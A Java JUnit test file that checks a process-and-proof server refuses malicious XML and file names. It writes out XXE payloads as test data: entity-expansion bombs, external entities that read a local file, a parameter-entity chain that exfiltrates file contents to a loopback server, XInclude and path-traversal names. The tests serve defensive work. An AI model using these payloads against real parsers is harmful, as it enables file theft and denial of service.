package io.millrace.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.millrace.data.Data;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Process files in XML from somebody who means harm: nothing is expanded, nothing is fetched, nothing is read from the disk. */
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class UntrustedXmlTest {
    @TempDir
    Path directory;

    private final AtomicInteger fetched = new AtomicInteger();
    private HttpServer elsewhere;
    private Server server;
    private Caller caller;

    @BeforeEach
    void open() throws Exception {
        elsewhere = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        elsewhere.createContext("/", exchange -> {
            fetched.incrementAndGet();
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        elsewhere.start();
        server = Server.open(ServerSettings.of(directory.resolve("journal")).port(0));
        caller = Caller.of(server);
    }

    @AfterEach
    void close() {
        server.close();
        elsewhere.stop(0);
    }

    private static String specification(String begin, String text) {
        return "<?xml version=\"1.0\"?>\n" + begin
                + "<specificationSet xmlns=\"http://www.yawlfoundation.org/yawlschema\" version=\"4.0\"><specification uri=\"x\"><documentation>"
                + text + "</documentation></specification></specificationSet>";
    }

    private void assertRefused(String source) throws Exception {
        for (String path : List.of("/processes", "/proofs")) {
            Caller.Answered refused = caller.post(path, Data.fields("file", "x.yawl", "source", source));
            assertThat(refused.status()).as(refused.body().json()).isEqualTo(422);
            assertThat(refused.body().json()).doesNotContain("TREASURE");
        }
        assertThat(fetched.get()).isZero();
        assertThat(caller.get("/processes").good().at("items").asList(Data.class)).isEmpty();
    }

    @Test
    void an_entity_that_grows_is_not_expanded() throws Exception {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
        for (int i = 1; i < 40; i++) {
            entities.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
        }
        assertRefused(specification(entities + "]>", "&a39;"));
        assertRefused(specification("<!DOCTYPE x [<!ENTITY a \"" + "x".repeat(100_000) + "\">]>", "&a;".repeat(10_000)));
        assertRefused(specification("<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", "&a;"));
        assertRefused(specification("", "&a;"));
    }

    @Test
    void nothing_is_fetched_and_no_file_is_read() throws Exception {
        Path treasure = Files.writeString(directory.resolve("treasure.txt"), "TREASURE");
        String address = "http://127.0.0.1:" + elsewhere.getAddress().getPort();
        assertRefused(specification("<!DOCTYPE x [<!ENTITY a SYSTEM \"" + treasure.toUri() + "\">]>", "&a;"));
        assertRefused(specification("<!DOCTYPE x [<!ENTITY a SYSTEM \"" + address + "/a\">]>", "&a;"));
        assertRefused(specification("<!DOCTYPE x SYSTEM \"" + address + "/x.dtd\">", "text"));
        assertRefused(specification("<!DOCTYPE x PUBLIC \"-//X//Y\" \"" + address + "/x.dtd\">", "text"));
        assertRefused(specification("<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + address + "/p\"> %p;]>", "text"));
        assertRefused(specification("<!DOCTYPE x [<!ENTITY % f SYSTEM \"" + treasure.toUri() + "\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM '" + address
                + "/?%f;'>\"> %e; %s;]>", "text"));
        assertRefused(specification("", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"" + treasure.toUri() + "\" parse=\"text\"/>"));
        String schema = "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x " + address + "/x.xsd\"";
        assertRefused(specification("", "<d " + schema + "/>"));
        assertRefused("<?xml version=\"1.0\"?><?xml-stylesheet href=\"" + address + "/x.xsl\" type=\"text/xsl\"?><x/>");
    }

    @Test
    void xml_that_is_deep_or_no_xml_is_refused() throws Exception {
        assertRefused(specification("", "<a>".repeat(100_000) + "</a>".repeat(100_000)));
        assertRefused(specification("", "<a " + "b=\"c\" ".repeat(2) + "/>"));
        assertRefused(specification("", "<a>"));
        assertRefused("<");
        assertRefused("\u0000");
        StringBuilder attributes = new StringBuilder("<a ");
        for (int i = 0; i < 50_000; i++) {
            attributes.append("b").append(i).append("=\"c\" ");
        }
        assertRefused(specification("", attributes + "/>"));
    }

    @Test
    void the_name_of_a_file_is_a_name_only() throws Exception {
        Path treasure = Files.writeString(directory.resolve("treasure.pl"), ":- treasure('TREASURE').");
        for (String name : List.of(treasure.toString(), "../../../../../../" + treasure, treasure.toUri().toString())) {
            Caller.Answered answered = caller.post("/proofs", Data.fields("file", name, "source", ":- rpc(a"));
            assertThat(answered.status()).isEqualTo(422);
            assertThat(answered.body().json()).doesNotContain("TREASURE");
        }
    }
}
